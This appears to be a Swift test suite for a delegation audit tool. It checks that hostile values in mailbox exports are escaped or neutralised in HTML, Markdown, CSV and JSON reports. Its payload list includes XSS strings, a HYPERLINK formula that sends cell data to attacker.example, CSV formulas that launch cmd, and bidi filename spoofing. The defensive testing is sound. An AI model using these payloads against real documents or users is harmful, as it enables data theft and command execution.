import AuditIngest
import AuditModel
import AuditReport
import Foundation
import Testing

@testable import AuditCLI

// Injection, end to end: an export whose display name, trustee and mailbox identity carry a
// payload goes through `delegation-audit run` in process, and every file of the pack is checked
// for its destination: HTML (index.html, narratives/*.html) shows the payload as text and holds
// no markup from it; Markdown (report.md, narratives/*.md) rendered by cmark shows it verbatim,
// with no link, image, raw HTML, heading or extra table cell; CSV (data/*.csv,
// register-template.csv) neutralises cells a spreadsheet would run as formulas; JSON (data/*.json,
// oscal/) keeps the value exactly. Bidirectional overrides and NUL are made visible in HTML and
// Markdown and never appear raw there.

/// The payloads, by a name that is also the test argument.
enum InjectionPayload {
  static let all: [(name: String, value: String)] = [
    ("script tag", "<script>alert(1)</script>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("markdown link", "[click me](javascript:alert(1))"),
    ("markdown image", "![logo](http://attacker.example/x.png)"),
    ("javascript URL", "javascript:alert(document.cookie)"),
    ("autolink", "<javascript:alert(1)>"),
    ("HYPERLINK formula", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"),
    ("at formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("plus formula", "+1+cmd|' /C calc'!A0"),
    ("minus formula", "-2+3+cmd|' /C calc'!A0"),
    ("tab prefix", "\t=1+2"),
    ("carriage return prefix", "\r=1+2"),
    ("pipes", "a | b || c |"),
    ("hash", "# not a heading #1"),
    ("emphasis and code", "*bold* _it_ `code` ~~gone~~"),
    ("bidi override", "invoice\u{202E}fdp.exe"),
    ("bidi isolates", "\u{2067}admin\u{2069}\u{200F}"),
    ("NUL byte", "nul\u{0}byte"),
    ("HTML entity", "&lt;b&gt; &amp;amp; &#60;script&#62;"),
  ]

  static var names: [String] { all.map(\.name) }

  static func value(_ name: String) -> String { all.first { $0.name == name }!.value }
}

/// A pack written from exports that carry one payload.
struct InjectedPack {
  let root: URL
  let pack: URL
  let payload: String
  let exitCode: Int32
  let stderr: String

  /// Writes the exports (and the register, unless `register` is false: the pack then has a
  /// register template), runs `delegation-audit run` in process.
  init(payload: String, register withRegister: Bool = true) throws {
    self.payload = payload
    root = FileManager.default.temporaryDirectory.appendingPathComponent("da-inject-\(UUID().uuidString)")
    let exports = root.appendingPathComponent("exports")
    try FileManager.default.createDirectory(at: exports, withIntermediateDirectories: true)
    let cell = Self.quoted(payload)
    try Self.write(
      "\"Name\",\"Alias\",\"DisplayName\",\"PrimarySmtpAddress\",\"RecipientTypeDetails\",\"GrantSendOnBehalfTo\"\r\n"
        + "\"ceo\",\"ceo\",\(cell),\"ceo@contoso.com\",\"UserMailbox\",\"\"\r\n"
        + "\"ana\",\"ana\",\"Ana Lopez\",\"ana@contoso.com\",\"UserMailbox\",\"\"\r\n",
      to: exports.appendingPathComponent("mailboxes.csv"))
    try Self.write(
      "\"Identity\",\"User\",\"AccessRights\",\"IsInherited\",\"Deny\"\r\n"
        + "\"ceo@contoso.com\",\(cell),\"FullAccess\",\"False\",\"False\"\r\n"
        + "\"ceo@contoso.com\",\"ana@contoso.com\",\"FullAccess\",\"False\",\"False\"\r\n"
        + "\(cell),\"ana@contoso.com\",\"FullAccess\",\"False\",\"False\"\r\n",
      to: exports.appendingPathComponent("mailbox-permissions.csv"))
    let register = root.appendingPathComponent("register.csv")
    try Self.write(
      "Mailbox,Trustee,Right,Folder,ApprovedBy,ApprovedOn,Ticket,Justification,ExpiresOn,LastReviewedOn,ReviewedBy,ReviewOutcome\r\n"
        + "ceo@contoso.com,ana@contoso.com,FullAccess,,cfo@contoso.com,2026-01-15,\(cell),\(cell),,2026-11-01,cfo@contoso.com,keep\r\n",
      to: register)
    pack = root.appendingPathComponent("pack")
    let capture = Console.Capture()
    exitCode = CommandLineTool.main(
      ["run", exports.path, "--out", pack.path, "--as-of", "2026-11-30", "--org", payload, "--quiet"]
        + (withRegister ? ["--register", register.path] : []),
      console: capture.console())
    stderr = capture.stderr
  }

  func remove() { try? FileManager.default.removeItem(at: root) }

  static func quoted(_ value: String) -> String {
    "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
  }

  static func write(_ text: String, to url: URL) throws { try Data(text.utf8).write(to: url) }

  /// Pack files whose relative path passes `filter`, with their bytes.
  func files(_ filter: (String) -> Bool) throws -> [(path: String, bytes: [UInt8])] {
    let enumerator = FileManager.default.enumerator(at: pack, includingPropertiesForKeys: nil)
    var found: [(path: String, bytes: [UInt8])] = []
    while let url = enumerator?.nextObject() as? URL {
      let relative = String(url.standardizedFileURL.path.dropFirst(pack.standardizedFileURL.path.count + 1))
      guard filter(relative), !url.hasDirectoryPath else { continue }
      found.append((relative, [UInt8](try Data(contentsOf: url))))
    }
    return found.sorted { $0.path < $1.path }
  }
}

/// Oracles independent of the product's escaping code.
enum InjectionOracle {
  /// Scalars that must never reach HTML or Markdown raw.
  static func isInvisible(_ scalar: Unicode.Scalar) -> Bool {
    let v = scalar.value
    return (v < 0x20 && v != 0x09 && v != 0x0A && v != 0x0D) || (0x7F...0x9F).contains(v)
      || (0x202A...0x202E).contains(v) || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F
      || v == 0x061C
  }

  /// HTML tags (`<name …>`) in a document.
  static func tags(_ html: String) -> [String] {
    var tags: [String] = []
    var rest = Substring(html)
    while let open = rest.firstIndex(of: "<") {
      let after = rest[rest.index(after: open)...]
      guard let close = after.firstIndex(of: ">") else { break }
      let tag = String(rest[open...close])
      if let first = tag.dropFirst().first, first.isLetter || first == "/" || first == "!" {
        tags.append(tag)
      }
      rest = rest[rest.index(after: close)...]
    }
    return tags
  }

  /// Problems of an HTML document that a payload could cause.
  static func htmlProblems(_ html: String) -> [String] {
    var problems: [String] = []
    let lower = html.lowercased()
    for element in ["<script", "<img", "<iframe", "<svg", "<object", "<embed", "<form", "<input", "<base"]
    where lower.contains(element) {
      problems.append("element \(element)")
    }
    for tag in tags(html) {
      let lowerTag = tag.lowercased()
      if lowerTag.range(of: #"\son[a-z]+\s*="#, options: .regularExpression) != nil {
        problems.append("event handler in \(tag)")
      }
      if lowerTag.contains("javascript:") || lowerTag.contains("attacker.example") {
        problems.append("payload URL in \(tag)")
      }
    }
    if html.unicodeScalars.contains(where: isInvisible) { problems.append("raw control or bidi character") }
    return problems
  }

  /// What cmark shows for a value written into Markdown as text: controls and bidi visible,
  /// line breaks and tabs as spaces, `& < > "` escaped; trimmed (cells and lines are).
  static func cmarkText(_ value: String) -> String {
    var out = ""
    for scalar in value.unicodeScalars {
      switch scalar {
      case "&": out += "&amp;"
      case "<": out += "&lt;"
      case ">": out += "&gt;"
      case "\"": out += "&quot;"
      case "\t", "\n", "\r": out += " "
      default:
        if isInvisible(scalar) {
          out += "[U+" + String(format: "%04X", scalar.value) + "]"
        } else {
          out.unicodeScalars.append(scalar)
        }
      }
    }
    return out.trimmingCharacters(in: .whitespaces)
  }

  /// What an HTML table cell shows for a value: `& < > " '` escaped, controls and bidi visible.
  static func htmlText(_ value: String) -> String {
    var out = ""
    for scalar in value.unicodeScalars {
      switch scalar {
      case "&": out += "&amp;"
      case "<": out += "&lt;"
      case ">": out += "&gt;"
      case "\"": out += "&quot;"
      case "'": out += "&#39;"
      default:
        if isInvisible(scalar) {
          out += "[U+" + String(format: "%04X", scalar.value) + "]"
        } else {
          out.unicodeScalars.append(scalar)
        }
      }
    }
    return out
  }

  /// Cells of a table line (`| a | b \| c |`): split on pipes not escaped by a backslash.
  static func markdownCells(_ line: String) -> Int {
    var count = 0
    var backslashes = 0
    for character in line {
      if character == "|" && backslashes % 2 == 0 { count += 1 }
      backslashes = character == "\\" ? backslashes + 1 : 0
    }
    return count - 1
  }

  /// Every string inside a JSON document.
  static func strings(_ json: Any) -> [String] {
    switch json {
    case let text as String: [text]
    case let array as [Any]: array.flatMap(strings)
    case let object as [String: Any]: object.keys.map { $0 } + object.values.flatMap(strings)
    default: []
    }
  }
}

@Suite("Hostile injection: payloads in exports are escaped, neutralised or kept exact")
struct HostileInjectionTests {
  /// One run per payload; each destination is checked by its own function.
  @Test(
    "A payload in a display name, trustee and mailbox is safe in every file of the pack",
    arguments: InjectionPayload.names)
  func payload(name: String) throws {
    let run = try InjectedPack(payload: InjectionPayload.value(name))
    defer { run.remove() }
    try #require(run.exitCode == 0, "\(run.stderr)")
    #expect(FileManager.default.fileExists(atPath: run.pack.appendingPathComponent("manifest.json").path))
    let trustee = try storedTrustee(run)
    try html(run, trustee: trustee)
    try markdown(run, trustee: trustee)
    try csv(run, trustee: trustee)
    try json(run)
    // Without a register the pack has a register template pre-filled with the grants.
    let first = try InjectedPack(payload: InjectionPayload.value(name), register: false)
    defer { first.remove() }
    try #require(first.exitCode == 0, "\(first.stderr)")
    #expect(
      FileManager.default.fileExists(atPath: first.pack.appendingPathComponent("register-template.csv").path))
    try csv(first, trustee: trustee)
  }

  /// The payload trustee as the pack records it (identities are trimmed; addresses lowercased).
  func storedTrustee(_ run: InjectedPack) throws -> String {
    let grants = try JSONSerialization.jsonObject(
      with: Data(contentsOf: run.pack.appendingPathComponent("data/grants.json")))
    let list = try #require((grants as? [String: Any])?["grants"] as? [[String: Any]])
    let grant = try #require(
      list.first {
        $0["mailbox"] as? String == "ceo@contoso.com" && $0["trustee"] as? String != "ana@contoso.com"
      })
    return try #require(grant["trustee"] as? String)
  }

  /// HTML shows the payload as text and holds no markup from it.
  func html(_ run: InjectedPack, trustee: String) throws {
    let payload = run.payload
    let pages = try run.files { $0.hasSuffix(".html") }
    #expect(pages.contains { $0.path == "index.html" })
    #expect(pages.contains { $0.path.hasPrefix("narratives/") })
    for page in pages {
      let html = String(decoding: page.bytes, as: UTF8.self)
      #expect(
        InjectionOracle.htmlProblems(html).isEmpty, "\(page.path): \(InjectionOracle.htmlProblems(html))")
    }
    let index = String(decoding: try #require(pages.first { $0.path == "index.html" }).bytes, as: UTF8.self)
    // The trustee is shown whole, as text, in a table cell.
    #expect(index.contains("<td>" + InjectionOracle.htmlText(trustee) + "</td>"), "trustee not shown as text")
    _ = payload
  }

  /// Markdown renders the payload verbatim: no link, image, HTML, heading or extra cell.
  func markdown(_ run: InjectedPack, trustee: String) throws {
    let payload = run.payload
    let documents = try run.files { $0.hasSuffix(".md") }
    #expect(documents.contains { $0.path == "report.md" })
    for document in documents {
      let markdown = String(decoding: document.bytes, as: UTF8.self)
      #expect(
        !markdown.unicodeScalars.contains(where: InjectionOracle.isInvisible), "\(document.path): raw control"
      )
      let html = HTMLRenderer.markdownToHTML(markdown)
      #expect(!html.contains("raw HTML omitted"), "\(document.path): the payload became raw HTML")
      #expect(!html.contains("<img"), "\(document.path): the payload became an image")
      #expect(!html.contains("href=\"\""), "\(document.path): the payload became an unsafe link")
      #expect(
        InjectionOracle.htmlProblems(html).isEmpty, "\(document.path): \(InjectionOracle.htmlProblems(html))")
      // Every row of a table has as many cells as its header.
      var columns: Int?
      for line in markdown.split(separator: "\n", omittingEmptySubsequences: false).map(String.init) {
        guard line.hasPrefix("|") else {
          columns = nil
          continue
        }
        let cells = InjectionOracle.markdownCells(line)
        if let columns {
          #expect(
            cells == columns, "\(document.path): a row with \(cells) cells under \(columns) columns: \(line)")
        } else {
          columns = cells
        }
      }
    }
    let report = String(
      decoding: try #require(documents.first { $0.path == "report.md" }).bytes, as: UTF8.self)
    let rendered = HTMLRenderer.markdownToHTML(report)
    #expect(
      rendered.contains(InjectionOracle.cmarkText(trustee)), "report.md does not show the trustee as text")
    #expect(rendered.contains(InjectionOracle.cmarkText(payload)), "report.md does not show --org as text")
    #expect(!rendered.contains("<h1>" + InjectionOracle.cmarkText(trustee)))
    #expect(!rendered.contains("<em>bold") && !rendered.contains("<code>code"))
  }

  /// CSV cells a spreadsheet would run are neutralised; the value is otherwise exact.
  func csv(_ run: InjectedPack, trustee: String) throws {
    let payload = run.payload
    let tables = try run.files { $0.hasSuffix(".csv") }
    #expect(tables.contains { $0.path == "data/grants.csv" })
    var cells: [String] = []
    for table in tables {
      let decoded = TextEncoding.decode(table.bytes)
      let report = CSVRecordReader.read(utf8: decoded.utf8, file: table.path, encoding: decoded.encoding) {
        record in
        cells += record.fields.compactMap(\.value.text)
      }
      #expect(report.diagnostics.isEmpty, "\(table.path): \(report.diagnostics)")
      cells += report.columns
    }
    for cell in cells {
      let first = cell.unicodeScalars.first
      #expect(
        !["=", "+", "-", "@", "\t", "\r"].contains(first),
        "a cell a spreadsheet runs: \(cell.debugDescription)")
    }
    for value in [payload, trustee] {
      let dangerous = ["=", "+", "-", "@", "\t", "\r"].contains(value.unicodeScalars.first)
      let expected = dangerous ? "'" + value : value
      #expect(
        cells.contains(expected),
        "\(value.debugDescription) is not in the CSV files as \(expected.debugDescription)")
    }
  }

  /// JSON keeps the payload exactly.
  func json(_ run: InjectedPack) throws {
    let payload = run.payload
    let documents = try run.files { $0.hasSuffix(".json") }
    #expect(documents.contains { $0.path == "data/grants.json" })
    var strings: [String] = []
    for document in documents {
      let parsed = try JSONSerialization.jsonObject(with: Data(document.bytes), options: [.fragmentsAllowed])
      strings += InjectionOracle.strings(parsed)
    }
    #expect(strings.contains(payload), "no JSON string equals the payload exactly")
  }
}
